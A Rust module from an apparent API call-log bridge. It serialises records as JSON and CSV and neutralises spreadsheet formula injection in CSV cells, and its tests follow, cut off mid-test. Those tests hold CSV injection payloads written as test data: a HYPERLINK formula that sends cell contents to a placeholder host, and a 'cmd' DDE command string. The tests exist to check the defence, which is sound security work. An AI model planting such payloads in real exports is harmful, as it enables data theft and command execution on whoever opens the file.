//! The call-log record, its JSON shapes and its CSV row.
//!
//! [`Record`] is the 41-field call-log schema (docs/FORMATS.md §1) plus the
//! bridge's own `sync_delay_ms`. Values borrow from the line buffer
//! (`Cow::Borrowed`) while a line is parsed, enriched and serialised, and
//! keep borrowing across tasks: a batch carries the chunk its records were
//! read from (`pipeline::Records`). [`Record::into_owned`] detaches a
//! record for callers that keep one beyond its chunk (tests, tools).
//!
//! Invariant: only this module decides the JSON shape of a record
//! ([`Shape::Ecls`] or [`Shape::Ndjson`]) and how a record is written as a
//! CSV row ([`Record::write_csv_row`], the Call Log Export's shape: every
//! value as its text, RFC 4180 quoting, and cells a spreadsheet would run
//! as a formula neutralised: [`Formulas`]). Which columns, in which order,
//! is the caller's (the export's order is `parse::ecle_csv::NATURAL`,
//! shared by the reader and the writer).

use std::borrow::Cow;

use crate::time;

/// How a field's value is written in the `ndjson` shape.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Always a JSON string.
    Str,
    /// A JSON integer when the value is one, `null` when absent (`-`, empty).
    Int,
    /// A JSON number when the value is one, `null` when absent.
    Float,
}

macro_rules! fields {
    ($( $variant:ident => $name:literal : $kind:ident ),+ $(,)?) => {
        /// One field of the call-log schema, in the order the hosted stream
        /// writes them. `ingestion_time` is not here: it is a number the
        /// bridge stamps, kept in [`Record::ingestion_time`].
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
        #[repr(u8)]
        pub enum Field { $( $variant ),+ }

        impl Field {
            /// Every field, in wire order.
            pub const ALL: &'static [Field] = &[ $( Field::$variant ),+ ];

            /// The schema name of the field (`api_key`, `http_status_code`, ...).
            pub const fn name(self) -> &'static str {
                match self { $( Field::$variant => $name ),+ }
            }

            /// How the `ndjson` shape writes the field.
            pub const fn kind(self) -> Kind {
                match self { $( Field::$variant => Kind::$kind ),+ }
            }
        }

        impl Record<'_> {
            /// Appends every member of the object, each with a leading
            /// comma. Unrolled per field so that each key is a literal of
            /// known length: copying it compiles to a few moves instead of
            /// a `memcpy` call (keys are half of the bytes written).
            #[inline]
            fn write_members<const NDJSON: bool>(&self, out: &mut Vec<u8>) {
                $( self.write_member::<NDJSON>(
                    Field::$variant,
                    concat!(",\"", $name, "\":").as_bytes(),
                    concat!(",\"", $name, "\":\"").as_bytes(),
                    out,
                ); )+
            }
        }
    };
}

fields! {
    ApiKey => "api_key": Str,
    ApiMethodName => "api_method_name": Str,
    Bytes => "bytes": Int,
    CacheHit => "cache_hit": Int,
    ClientTransferTime => "client_transfer_time": Float,
    ConnectTime => "connect_time": Float,
    EndpointName => "endpoint_name": Str,
    HttpMethod => "http_method": Str,
    HttpStatusCode => "http_status_code": Int,
    HttpVersion => "http_version": Str,
    LogType => "log_type": Str,
    OauthAccessToken => "oauth_access_token": Str,
    PackageName => "package_name": Str,
    PackageUuid => "package_uuid": Str,
    PlanName => "plan_name": Str,
    PlanUuid => "plan_uuid": Str,
    PreTransferTime => "pre_transfer_time": Float,
    QpsThrottleValue => "qps_throttle_value": Int,
    QuotaValue => "quota_value": Int,
    Referrer => "referrer": Str,
    RemoteTotalTime => "remote_total_time": Float,
    RequestHostName => "request_host_name": Str,
    RequestId => "request_id": Str,
    RequestTime => "request_time": Str,
    RequestUuid => "request_uuid": Str,
    ResponseString => "response_string": Str,
    ServiceDefinitionEndpointUuid => "service_definition_endpoint_uuid": Str,
    ServiceId => "service_id": Str,
    ServiceName => "service_name": Str,
    SrcIp => "src_ip": Str,
    SslEnabled => "ssl_enabled": Int,
    TotalRequestExecTime => "total_request_exec_time": Float,
    TrafficManager => "traffic_manager": Str,
    TrafficManagerErrorCode => "traffic_manager_error_code": Str,
    Uri => "uri": Str,
    UserAgent => "user_agent": Str,
    OrgName => "org_name": Str,
    OrgUuid => "org_uuid": Str,
    SubOrgName => "sub_org_name": Str,
    SubOrgUuid => "sub_org_uuid": Str,
}

/// Number of string-valued schema fields held in [`Record::fields`]
/// (the 41 schema fields minus `ingestion_time`).
pub const FIELD_COUNT: usize = Field::ALL.len();

impl Field {
    /// Looks a schema field up by its name. `ingestion_time` is not a
    /// [`Field`] (see [`Record::ingestion_time`]) and returns `None`.
    pub fn from_name(name: &str) -> Option<Field> {
        // Linear search over 40 short names is faster than hashing for the
        // header-mapping and JSON-key paths that call this.
        Field::ALL.iter().copied().find(|f| f.name() == name)
    }

    /// Position of the field in [`Record::fields`].
    #[inline]
    pub const fn index(self) -> usize {
        self as usize
    }
}

/// The value `log_type` takes for everything read from Local Edition.
pub const LOG_TYPE_ML: &str = "ML";

/// One API call in the call-log schema.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Record<'a> {
    /// The schema fields, indexed by [`Field::index`]. A field the source
    /// did not have is the empty string; `-` is kept where the source wrote it.
    /// `request_time` holds ISO 8601 UTC (`2019-04-19T21:56:43Z`).
    pub fields: [Cow<'a, str>; FIELD_COUNT],
    /// `request_time` as epoch milliseconds (keeps the fraction that the
    /// seconds-precision ISO string drops); used for the sync delay.
    pub request_time_ms: Option<i64>,
    /// Epoch milliseconds when the bridge read the line (the stream's
    /// `ingestion_time`). `None` in offline `parse` unless asked.
    pub ingestion_time: Option<i64>,
    /// `ingestion_time - request_time_ms`, filled in by the running bridge.
    /// Negative when `request_time` lies in the future (clock skew).
    pub sync_delay_ms: Option<i64>,
    /// When Local Edition wrote the line (epoch ms), where the format says
    /// (LE 6 `log_ingestion`). Not part of the record's JSON: the running
    /// bridge reports `ingestion_time - write_time_ms` per file as the
    /// transfer delay (the part of the sync delay after the line was
    /// written).
    pub write_time_ms: Option<i64>,
    /// The bridge that read the line (its `host` setting): a bridge field
    /// like `ingestion_time`, written in both shapes after
    /// `sync_delay_ms` when set (empty: not written). A hub keeps the
    /// edge bridge's value from the Kafka message.
    pub host: Cow<'a, str>,
}

impl Default for Record<'_> {
    fn default() -> Self {
        Record {
            fields: std::array::from_fn(|_| Cow::Borrowed("")),
            request_time_ms: None,
            ingestion_time: None,
            sync_delay_ms: None,
            write_time_ms: None,
            host: Cow::Borrowed(""),
        }
    }
}

impl<'a> Record<'a> {
    /// An empty record with `log_type` = `ML`.
    pub fn new_ml() -> Self {
        let mut r = Record::default();
        r.fields[Field::LogType.index()] = Cow::Borrowed(LOG_TYPE_ML);
        r
    }

    /// The value of a field (empty when the source had none).
    #[inline]
    pub fn get(&self, f: Field) -> &str {
        &self.fields[f.index()]
    }

    /// Sets a field.
    #[inline]
    pub fn set(&mut self, f: Field, v: impl Into<Cow<'a, str>>) {
        self.fields[f.index()] = v.into();
    }

    /// True when the field holds no value (empty or `-`).
    #[inline]
    pub fn is_missing(&self, f: Field) -> bool {
        is_absent(self.get(f))
    }

    /// Sets `request_time` from epoch milliseconds: the ISO string (seconds,
    /// as the stream writes it) and [`Record::request_time_ms`].
    pub fn set_request_time_ms(&mut self, ms: i64) {
        self.request_time_ms = Some(ms);
        self.fields[Field::RequestTime.index()] = Cow::Owned(time::format_iso_seconds(ms));
    }

    /// Stamps the time the bridge observed the record and derives
    /// `sync_delay_ms` from it: the one place the sync delay is computed.
    /// The file's statistics take the stamped delays as they are
    /// (`telemetry::FileStats::records_read`), so the record and
    /// `/status` / `/metrics` never disagree (negative with clock skew,
    /// never clamped).
    pub fn stamp_observed(&mut self, observed_ms: i64) {
        self.ingestion_time = Some(observed_ms);
        self.sync_delay_ms = self.request_time_ms.map(|rt| observed_ms - rt);
    }

    /// Detaches the record from the line buffer it borrows from.
    ///
    /// Empty and very common values (`-`, `0`, `0.0`, `GET`, `HTTP/1.1`,
    /// `200`, ...) become shared `'static` strings instead of copies: the
    /// ~40 small allocations per record are most of what owning costs, and
    /// on typical traffic about a third of the values are such constants.
    /// Values that are already owned keep their buffer.
    pub fn into_owned(self) -> Record<'static> {
        Record {
            fields: self.fields.map(|c| match c {
                Cow::Borrowed(v) => match shared_static(v) {
                    Some(k) => Cow::Borrowed(k),
                    None => Cow::Owned(v.to_owned()),
                },
                Cow::Owned(v) => Cow::Owned(v),
            }),
            request_time_ms: self.request_time_ms,
            ingestion_time: self.ingestion_time,
            sync_delay_ms: self.sync_delay_ms,
            write_time_ms: self.write_time_ms,
            host: if self.host.is_empty() { Cow::Borrowed("") } else { Cow::Owned(self.host.into_owned()) },
        }
    }

    /// Appends the record as one JSON object in the given shape (no newline).
    pub fn write_json(&self, shape: Shape, out: &mut Vec<u8>) {
        match shape {
            Shape::Ecls => self.write_ecls(out),
            Shape::Ndjson => self.write_ndjson(out),
        }
    }

    /// The `ecls` shape: every value a JSON string, as the hosted stream
    /// sends it.
    fn write_ecls(&self, out: &mut Vec<u8>) {
        let start = out.len();
        self.write_members::<false>(out);
        // The first member's leading comma becomes the opening brace.
        out[start] = b'{';
        if let Some(d) = self.sync_delay_ms {
            out.extend_from_slice(b",\"sync_delay_ms\":\"");
            push_i64(out, d);
            out.push(b'"');
        }
        self.write_host(out);
        out.push(b'}');
    }

    /// Appends `,"host":"..."` when the record carries a host.
    #[inline]
    fn write_host(&self, out: &mut Vec<u8>) {
        if !self.host.is_empty() {
            out.extend_from_slice(b",\"host\":\"");
            write_json_str_body(out, &self.host);
            out.push(b'"');
        }
    }

    /// The `ndjson` shape: numbers as JSON numbers (`null` when absent),
    /// times as ISO 8601.
    fn write_ndjson(&self, out: &mut Vec<u8>) {
        let start = out.len();
        self.write_members::<true>(out);
        out[start] = b'{';
        match self.sync_delay_ms {
            Some(d) => {
                out.extend_from_slice(b",\"sync_delay_ms\":");
                push_i64(out, d);
            }
            None => out.extend_from_slice(b",\"sync_delay_ms\":null"),
        }
        self.write_host(out);
        out.push(b'}');
    }

    /// Appends one member: `key` is `,"name":`, `key_quote` the same with
    /// the value's opening quote.
    #[inline(always)]
    fn write_member<const NDJSON: bool>(&self, f: Field, key: &'static [u8], key_quote: &'static [u8], out: &mut Vec<u8>) {
        if f == Field::LogType {
            // The stream places ingestion_time just before log_type.
            match (self.ingestion_time, NDJSON) {
                (Some(ms), false) => {
                    out.extend_from_slice(b",\"ingestion_time\":\"");
                    push_i64(out, ms);
                    out.push(b'"');
                }
                (Some(ms), true) => {
                    out.extend_from_slice(b",\"ingestion_time\":\"");
                    push_iso_millis(out, ms);
                    out.push(b'"');
                }
                (None, false) => out.extend_from_slice(b",\"ingestion_time\":\"\""),
                (None, true) => out.extend_from_slice(b",\"ingestion_time\":null"),
            }
        }
        let v = self.get(f);
        if NDJSON && f.kind() != Kind::Str {
            out.extend_from_slice(key);
            if is_absent(v) {
                out.extend_from_slice(b"null");
            } else if is_json_number(v) {
                out.extend_from_slice(v.as_bytes());
            } else {
                // Keep what the source wrote rather than lose it.
                write_json_str(out, v);
            }
        } else {
            out.extend_from_slice(key_quote);
            write_json_str_body(out, v);
            out.push(b'"');
        }
    }

    /// Appends the record as one CSV row of `columns`, terminated by CRLF
    /// (RFC 4180). Every value is written as its text, as the `ecls` shape
    /// does (numbers as the source spelled them, `-` kept, a missing value
    /// empty); a value holding a comma, a quote, CR or LF is quoted, with
    /// quotes doubled. With [`Formulas::Neutralised`], a cell a spreadsheet
    /// would run as a formula is written as text (see
    /// [`csv_cell_is_formula`]). `ingestion_time`, `sync_delay_ms` and
    /// `host` are not columns of the export: with `bridge` they follow
    /// `columns` ([`CSV_BRIDGE_COLUMNS`]: `ingestion_time` in epoch ms as
    /// the `ecls` shape writes it, `sync_delay_ms`, `host`; empty where the
    /// record has none).
    pub fn write_csv_row(&self, columns: &[Field], bridge: bool, formulas: Formulas, out: &mut Vec<u8>) {
        for (i, &f) in columns.iter().enumerate() {
            if i > 0 {
                out.push(b',');
            }
            write_csv_cell(out, f.kind(), self.get(f), formulas);
        }
        if bridge {
            out.push(b',');
            if let Some(t) = self.ingestion_time {
                push_i64(out, t);
            }
            out.push(b',');
            if let Some(d) = self.sync_delay_ms {
                push_i64(out, d);
            }
            out.push(b',');
            write_csv_cell(out, Kind::Str, &self.host, formulas);
        }
        out.extend_from_slice(b"\r\n");
    }

    /// The record as a `serde_json::Value` in the given shape (tests, tools).
    pub fn to_value(&self, shape: Shape) -> serde_json::Value {
        let mut buf = Vec::with_capacity(1024);
        self.write_json(shape, &mut buf);
        serde_json::from_slice(&buf).expect("record JSON is valid")
    }
}

/// Which JSON shape records are written in.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default, serde::Deserialize, serde::Serialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum Shape {
    /// Exactly what the hosted Call Log Stream sends: every value a string.
    Ecls,
    /// One record per line, numbers as numbers, times as ISO 8601.
    #[default]
    Ndjson,
}

/// Appends `{"data":[r1,r2,...]}`, the stream's message framing, in the
/// `ecls` shape.
pub fn write_ecls_message<'r, 'a: 'r>(records: impl IntoIterator<Item = &'r Record<'a>>, out: &mut Vec<u8>) {
    out.extend_from_slice(b"{\"data\":[");
    let mut first = true;
    for r in records {
        if !first {
            out.push(b',');
        }
        first = false;
        r.write_ecls(out);
    }
    out.extend_from_slice(b"]}");
}

/// The bridge's own columns a CSV row may carry after the export's
/// ([`Record::write_csv_row`]), by header name.
pub const CSV_BRIDGE_COLUMNS: [&str; 3] = ["ingestion_time", "sync_delay_ms", "host"];

/// Appends the header row naming `columns` (schema names), terminated by
/// CRLF: the row [`Record::write_csv_row`] writes under.
pub fn write_csv_header(columns: &[Field], out: &mut Vec<u8>) {
    write_csv_header_with(columns, false, out);
}

/// The same header, naming the bridge's columns after `columns` when
/// `bridge`.
pub fn write_csv_header_with(columns: &[Field], bridge: bool, out: &mut Vec<u8>) {
    let bridge_names: &[&str] = if bridge { &CSV_BRIDGE_COLUMNS } else { &[] };
    for (i, name) in columns.iter().map(|f| f.name()).chain(bridge_names.iter().copied()).enumerate() {
        if i > 0 {
            out.push(b',');
        }
        out.extend_from_slice(name.as_bytes());
    }
    out.extend_from_slice(b"\r\n");
}

/// How CSV cells that a spreadsheet would run as a formula are written
/// ([`Record::write_csv_row`]).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Formulas {
    /// As text: such a cell gets a leading `'` and is quoted (OWASP's
    /// advice against CSV injection); a value holding `;` or a tab is
    /// quoted.
    #[default]
    Neutralised,
    /// As the value is (for pipelines that need the raw values).
    Verbatim,
}

/// The characters that make a spreadsheet read a cell as a formula when
/// it starts with one (`=`, `+`, `-`, `@`, tab, carriage return).
const FORMULA_START: [u8; 6] = [b'=', b'+', b'-', b'@', b'\t', b'\r'];

/// True when the cell `v` of column `f` would be run as a formula by a
/// spreadsheet, so [`Formulas::Neutralised`] writes it as text. The rule
/// is per column:
///
/// - text columns (every [`Kind::Str`] field: user agent, referrer, URI,
///   host, keys, names...; any of them may hold what an API caller sent):
///   a value starting with `=`, `+`, `-`, `@`, tab or CR, except `-`
///   alone, the schema's "absent";
/// - numeric columns ([`Kind::Int`], [`Kind::Float`]): a value starting
///   with one of those that is not a number (`-1` and `-0.5` stay
///   numbers).
///
/// Idempotent: a neutralised cell starts with `'`, which is none of them.
pub fn csv_cell_is_formula(f: Field, v: &str) -> bool {
    is_formula(f.kind(), v)
}

/// [`csv_cell_is_formula`] for a column of kind `kind`.
fn is_formula(kind: Kind, v: &str) -> bool {
    let Some(first) = v.as_bytes().first() else { return false };
    if !FORMULA_START.contains(first) || v == "-" {
        return false;
    }
    match kind {
        Kind::Str => true,
        Kind::Int | Kind::Float => !is_json_number(v),
    }
}

/// Appends one CSV cell of a column of kind `kind` (a text column of
/// another table, such as `lag report --csv`'s host and file, is
/// [`Kind::Str`]): with [`Formulas::Neutralised`], as text when a
/// spreadsheet would run it as a formula ([`csv_cell_is_formula`]'s rule),
/// otherwise as `write_csv_value` writes it.
pub fn write_csv_cell(out: &mut Vec<u8>, kind: Kind, v: &str, formulas: Formulas) {
    if formulas == Formulas::Neutralised && is_formula(kind, v) {
        write_csv_quoted(out, b"'", v);
    } else {
        write_csv_value(out, v, formulas);
    }
}

/// Appends one CSV value: as it is, or quoted (quotes doubled) when it
/// holds a delimiter, a quote or a line break (RFC 4180 section 2), and,
/// with [`Formulas::Neutralised`], a separator of another reader (`;` in
/// many locales, a tab for TSV imports): such a reader would otherwise
/// start a cell inside the value, where a formula character may follow.
fn write_csv_value(out: &mut Vec<u8>, v: &str, formulas: Formulas) {
    let b = v.as_bytes();
    // Two vectorised scans; nearly every value needs no quoting.
    let more = match formulas {
        Formulas::Neutralised => memchr::memchr3(b'\r', b';', b'\t', b),
        Formulas::Verbatim => memchr::memchr(b'\r', b),
    };
    if more.is_none() && memchr::memchr3(b',', b'"', b'\n', b).is_none() {
        out.extend_from_slice(b);
        return;
    }
    write_csv_quoted(out, b"", v);
}

/// Appends one CSV value quoted whatever it holds, `prefix` first inside
/// the quotes (quotes in `prefix` are not doubled: it is the writer's, not
/// the value's).
fn write_csv_quoted(out: &mut Vec<u8>, prefix: &[u8], v: &str) {
    let b = v.as_bytes();
    out.reserve(b.len() + prefix.len() + 4);
    out.push(b'"');
    out.extend_from_slice(prefix);
    let mut start = 0;
    while let Some(i) = memchr::memchr(b'"', &b[start..]) {
        out.extend_from_slice(&b[start..start + i + 1]);
        out.push(b'"');
        start += i + 1;
    }
    out.extend_from_slice(&b[start..]);
    out.push(b'"');
}

/// True for the spellings of "no value": empty or `-`.
#[inline]
pub fn is_absent(v: &str) -> bool {
    v.is_empty() || v == "-"
}

/// Appends the decimal digits of `v` (no allocation: digits go through a
/// stack buffer).
fn push_i64(out: &mut Vec<u8>, v: i64) {
    // u64::MAX has 20 digits.
    let mut tmp = [0u8; 20];
    let mut n = v.unsigned_abs();
    let mut i = tmp.len();
    loop {
        i -= 1;
        tmp[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    if v < 0 {
        out.push(b'-');
    }
    out.extend_from_slice(&tmp[i..]);
}

/// Appends `2019-04-19T21:56:43.068Z` for epoch milliseconds, as
/// [`time::format_iso_millis`] spells it, without allocating.
fn push_iso_millis(out: &mut Vec<u8>, ms: i64) {
    let secs = ms.div_euclid(1000);
    let frac = ms.rem_euclid(1000) as u32;
    let sod = secs.rem_euclid(86_400) as u32;
    let (y, m, d) = time::civil_from_days(secs.div_euclid(86_400));
    if !(0..=9999).contains(&y) {
        // Years the fixed layout below cannot hold: the general formatter.
        out.extend_from_slice(time::format_iso_millis(ms).as_bytes());
        return;
    }
    let y = y as u32;
    let dig = |v: u32| b'0' + (v % 10) as u8;
    let (h, mi, s) = (sod / 3600, sod / 60 % 60, sod % 60);
    out.extend_from_slice(&[
        dig(y / 1000),
        dig(y / 100),
        dig(y / 10),
        dig(y),
        b'-',
        dig(m / 10),
        dig(m),
        b'-',
        dig(d / 10),
        dig(d),
        b'T',
        dig(h / 10),
        dig(h),
        b':',
        dig(mi / 10),
        dig(mi),
        b':',
        dig(s / 10),
        dig(s),
        b'.',
        dig(frac / 100),
        dig(frac / 10),
        dig(frac),
        b'Z',
    ]);
}

/// Values so common in Local Edition traffic that [`Record::into_owned`]
/// shares a `'static` copy instead of allocating one per record.
#[inline]
fn shared_static(v: &str) -> Option<&'static str> {
    // A `match` on strings compares the length first, so a value that is
    // none of these costs a few integer compares.
    Some(match v {
        "" => "",
        "-" => "-",
        "0" => "0",
        "1" => "1",
        "0.0" => "0.0",
        "0.001" => "0.001",
        "0.002" => "0.002",
        "0.003" => "0.003",
        "ML" => "ML",
        "GET" => "GET",
        "POST" => "POST",
        "PUT" => "PUT",
        "DELETE" => "DELETE",
        "HTTP/1.1" => "HTTP/1.1",
        "HTTP/1.0" => "HTTP/1.0",
        "HTTP/2.0" => "HTTP/2.0",
        "200" => "200",
        "201" => "201",
        "204" => "204",
        "404" => "404",
        "200_OK_API" => "200_OK_API",
        "201_Created_API" => "201_Created_API",
        "204_No_Content_API" => "204_No_Content_API",
        "unknown" => "unknown",
        _ => return None,
    })
}

/// True when `v` is a valid JSON number literal that JSON readers can hold
/// (so it can be written raw): a literal such as `4031e308`, or an integer
/// of 310 digits, is valid grammar but beyond a double, and parsers refuse
/// it (serde_json) or turn it into infinity (JavaScript); such a value is
/// written as a string. (Short literals without an exponent always fit.)
pub fn is_json_number(v: &str) -> bool {
    is_json_number_literal(v) && ((v.len() <= 32 && !v.contains(['e', 'E'])) || v.parse::<f64>().is_ok_and(f64::is_finite))
}

/// The JSON number grammar (RFC 8259 section 6).
fn is_json_number_literal(v: &str) -> bool {
    let b = v.as_bytes();
    let mut i = 0;
    if b.first() == Some(&b'-') {
        i += 1;
    }
    let int_start = i;
    while i < b.len() && b[i].is_ascii_digit() {
        i += 1;
    }
    let int_len = i - int_start;
    if int_len == 0 || (int_len > 1 && b[int_start] == b'0') {
        return false;
    }
    if i < b.len() && b[i] == b'.' {
        i += 1;
        let s = i;
        while i < b.len() && b[i].is_ascii_digit() {
            i += 1;
        }
        if i == s {
            return false;
        }
    }
    if i < b.len() && (b[i] == b'e' || b[i] == b'E') {
        i += 1;
        if i < b.len() && (b[i] == b'+' || b[i] == b'-') {
            i += 1;
        }
        let s = i;
        while i < b.len() && b[i].is_ascii_digit() {
            i += 1;
        }
        if i == s {
            return false;
        }
    }
    i == b.len()
}

/// Bytes JSON requires escaped inside a string: `"`, `\\` and controls.
const NEEDS_ESCAPE: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    while i < 0x20 {
        t[i] = true;
        i += 1;
    }
    t[b'"' as usize] = true;
    t[b'\\' as usize] = true;
    t
};

/// `0x01` in every byte of a word.
const ONES: u64 = u64::from_ne_bytes([1; 8]);
/// `0x80` in every byte of a word.
const HIGHS: u64 = ONES * 0x80;

/// True when one of the 8 bytes of `w` needs escaping (SWAR: the classic
/// "has a byte less than n" and "has a zero byte" tests, exact as a
/// yes/no answer for the whole word).
#[inline]
fn word_needs_escape(w: u64) -> bool {
    let ctrl = w.wrapping_sub(ONES * 0x20) & !w;
    let q = w ^ (ONES * b'"' as u64);
    let quote = q.wrapping_sub(ONES) & !q;
    let b = w ^ (ONES * b'\\' as u64);
    let backslash = b.wrapping_sub(ONES) & !b;
    (ctrl | quote | backslash) & HIGHS != 0
}

/// Index of the first byte at or after `from` that needs escaping: clean
/// 8-byte words are skipped whole, the rest is looked up byte by byte.
#[inline]
fn find_escape(b: &[u8], mut from: usize) -> Option<usize> {
    while let Some(chunk) = b.get(from..from + 8) {
        let mut word = [0u8; 8];
        word.copy_from_slice(chunk);
        if word_needs_escape(u64::from_ne_bytes(word)) {
            break;
        }
        from += 8;
    }
    b[from..].iter().position(|&c| NEEDS_ESCAPE[c as usize]).map(|p| from + p)
}

/// Appends `s` as a JSON string literal, escaping what JSON requires.
pub fn write_json_str(out: &mut Vec<u8>, s: &str) {
    out.reserve(s.len() + 2);
    out.push(b'"');
    write_json_str_body(out, s);
    out.push(b'"');
}

/// Appends the escaped content of a JSON string literal (no quotes). Runs
/// of bytes that need no escape (nearly every value) are copied whole.
fn write_json_str_body(out: &mut Vec<u8>, s: &str) {
    let bytes = s.as_bytes();
    let mut start = 0;
    while let Some(i) = find_escape(bytes, start) {
        out.extend_from_slice(&bytes[start..i]);
        let c = bytes[i];
        match c {
            b'"' => out.extend_from_slice(b"\\\""),
            b'\\' => out.extend_from_slice(b"\\\\"),
            b'\n' => out.extend_from_slice(b"\\n"),
            b'\r' => out.extend_from_slice(b"\\r"),
            b'\t' => out.extend_from_slice(b"\\t"),
            _ => {
                const HEX: &[u8; 16] = b"0123456789abcdef";
                out.extend_from_slice(&[b'\\', b'u', b'0', b'0', HEX[(c >> 4) as usize], HEX[(c & 0xf) as usize]]);
            }
        }
        start = i + 1;
    }
    out.extend_from_slice(&bytes[start..]);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn schema_has_41_fields_with_ingestion_time() {
        assert_eq!(FIELD_COUNT + 1, 41);
    }

    #[test]
    fn ecls_every_value_is_a_string() {
        let mut r = Record::new_ml();
        r.set(Field::Bytes, "113");
        r.set(Field::UserAgent, "a \"quoted\"\tvalue\u{1}");
        r.set_request_time_ms(1_555_711_003_068);
        r.stamp_observed(1_555_711_021_034);
        let v = r.to_value(Shape::Ecls);
        let o = v.as_object().unwrap();
        assert_eq!(o.len(), 42);
        assert!(o.values().all(|v| v.is_string()));
        assert_eq!(o["bytes"], "113");
        assert_eq!(o["ingestion_time"], "1555711021034");
        assert_eq!(o["request_time"], "2019-04-19T21:56:43Z");
        assert_eq!(o["user_agent"], "a \"quoted\"\tvalue\u{1}");
        assert_eq!(o["sync_delay_ms"], "17966");
        let keys: Vec<_> = o.keys().collect();
        assert_eq!(keys[10], "ingestion_time");
        assert_eq!(keys[11], "log_type");
    }

    #[test]
    fn ndjson_numbers_and_nulls() {
        let mut r = Record::new_ml();
        r.set(Field::Bytes, "113");
        r.set(Field::ConnectTime, "0.101");
        r.set(Field::CacheHit, "-");
        r.set(Field::QuotaValue, "n/a");
        let v = r.to_value(Shape::Ndjson);
        assert_eq!(v["bytes"], 113);
        assert_eq!(v["connect_time"], 0.101);
        assert!(v["cache_hit"].is_null());
        assert_eq!(v["quota_value"], "n/a");
        assert!(v["ingestion_time"].is_null());
        assert!(v["sync_delay_ms"].is_null());
    }

    #[test]
    fn json_number_literals() {
        for ok in ["0", "-1", "0.000", "16.388", "1e5", "1.5E-3"] {
            assert!(is_json_number(ok), "{ok}");
        }
        let huge = "3".repeat(310);
        for bad in ["", "-", "01", "1.", ".5", "1e", "NaN", "0x10", "1 ", "4e308", "0.1e380", "-1E309", &huge] {
            assert!(!is_json_number(bad), "{bad}");
        }
        // Long integers and fractions stay numbers (readers round them).
        assert!(is_json_number("18446744073709551616") && is_json_number("0.000000000000000000001"));
    }

    #[test]
    fn csv_values_quoted_only_when_needed() {
        fn check(v: &str, expected: &str) {
            let mut out = Vec::new();
            write_csv_value(&mut out, v, Formulas::Verbatim);
            assert_eq!(std::str::from_utf8(&out).unwrap(), expected, "{v:?}");
        }
        check("", "");
        check("-", "-");
        check("plain text", "plain text");
        check("Zürich – 東京", "Zürich – 東京");
        check("a,b", "\"a,b\"");
        check("say \"hi\"", "\"say \"\"hi\"\"\"");
        check("\"", "\"\"\"\"");
        check("two\nlines", "\"two\nlines\"");
        check("cr\r", "\"cr\r\"");
        check("a\"b,\r\n\"", "\"a\"\"b,\r\n\"\"\"");
    }

    #[test]
    fn csv_row_in_the_given_columns_with_crlf() {
        let mut r = Record::new_ml();
        r.set(Field::RequestUuid, "u1");
        r.set(Field::Bytes, "113");
        r.set(Field::UserAgent, "ua, \"x\"");
        r.set_request_time_ms(1_555_711_003_068);
        r.stamp_observed(1_555_711_021_034);
        let cols = [Field::RequestUuid, Field::Bytes, Field::UserAgent, Field::RequestTime, Field::OrgName];
        let mut out = Vec::new();
        write_csv_header(&cols, &mut out);
        r.write_csv_row(&cols, false, Formulas::Neutralised, &mut out);
        assert_eq!(
            std::str::from_utf8(&out).unwrap(),
            "request_uuid,bytes,user_agent,request_time,org_name\r\nu1,113,\"ua, \"\"x\"\"\",2019-04-19T21:56:43Z,\r\n"
        );
        // With the bridge's columns, read back by the export's reader.
        r.host = Cow::Borrowed("edge, 1");
        let cols = &crate::parse::ecle_csv::NATURAL[..35];
        let mut out = Vec::new();
        write_csv_header_with(cols, true, &mut out);
        r.write_csv_row(cols, true, Formulas::Neutralised, &mut out);
        let text = String::from_utf8(out).unwrap();
        assert!(text.lines().nth(1).unwrap().ends_with(",1555711021034,17966,\"edge, 1\""), "{text}");
        let mut p = crate::parse::LineParser::new(crate::parse::Format::Auto, 1 << 20);
        p.keep_bridge_fields();
        let mut got = Vec::new();
        for line in text.lines() {
            p.parse_line(line.as_bytes(), &mut got).unwrap();
        }
        assert_eq!((got[0].ingestion_time, got[0].sync_delay_ms, &*got[0].host), (Some(1_555_711_021_034), Some(17_966), "edge, 1"));
        // Without keeping them, the export's reader ignores them.
        let mut p = crate::parse::LineParser::new(crate::parse::Format::Auto, 1 << 20);
        let mut got = Vec::new();
        for line in text.lines() {
            p.parse_line(line.as_bytes(), &mut got).unwrap();
        }
        assert_eq!((got[0].ingestion_time, got[0].sync_delay_ms, &*got[0].host), (None, None, ""));
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_neutralised_per_column() {
        fn check(f: Field, v: &str, neutralised: &str, verbatim: &str) {
            let mut r = Record::new_ml();
            r.set(f, v.to_string());
            for (formulas, want) in [(Formulas::Neutralised, neutralised), (Formulas::Verbatim, verbatim)] {
                let mut out = Vec::new();
                r.write_csv_row(&[f], false, formulas, &mut out);
                assert_eq!(std::str::from_utf8(&out).unwrap(), format!("{want}\r\n"), "{f:?} {v:?} {formulas:?}");
            }
        }
        let ua = Field::UserAgent;
        check(
            ua,
            "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"",
            "\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"",
        );
        check(ua, "+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"", "+1+cmd|' /C calc'!A0");
        check(Field::Referrer, "-2+3", "\"'-2+3\"", "-2+3");
        check(Field::Uri, "@SUM(1)", "\"'@SUM(1)\"", "@SUM(1)");
        check(Field::RequestHostName, "\t=1", "\"'\t=1\"", "\t=1");
        check(Field::ApiKey, "\r=1", "\"'\r=1\"", "\"\r=1\"");
        // Text columns: `-` alone is "absent"; anything else starting with
        // `-` is caller text.
        check(ua, "-", "-", "-");
        check(ua, "", "", "");
        check(ua, "-5", "\"'-5\"", "-5");
        check(ua, "'=1", "'=1", "'=1");
        check(ua, "Mozilla/5.0 (a=b)", "Mozilla/5.0 (a=b)", "Mozilla/5.0 (a=b)");
        // Another reader's separator: quoted, so no cell starts inside.
